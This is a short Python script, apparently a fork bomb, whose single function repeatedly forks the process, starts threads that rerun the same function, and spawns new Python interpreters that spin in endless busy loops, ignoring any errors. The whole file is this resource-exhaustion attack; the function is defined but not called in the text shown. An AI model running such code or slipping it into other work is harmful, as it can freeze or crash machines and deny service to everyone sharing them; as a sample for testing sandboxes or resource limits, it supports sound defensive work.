# Multiplies: processes, threads, and new programs that do the same.
import os
import subprocess
import sys
import threading


def attack(*arguments):
    for _ in range(5000):
        for begin in (
            os.fork,
            lambda: threading.Thread(target=attack).start(),
            lambda: subprocess.Popen([sys.executable, "-c", "while True: pass"]),
            lambda: os.posix_spawn(sys.executable, ["python", "-c", "while True: pass"], {}),
        ):
            try:
                begin()
            except (OSError, RuntimeError):
                pass
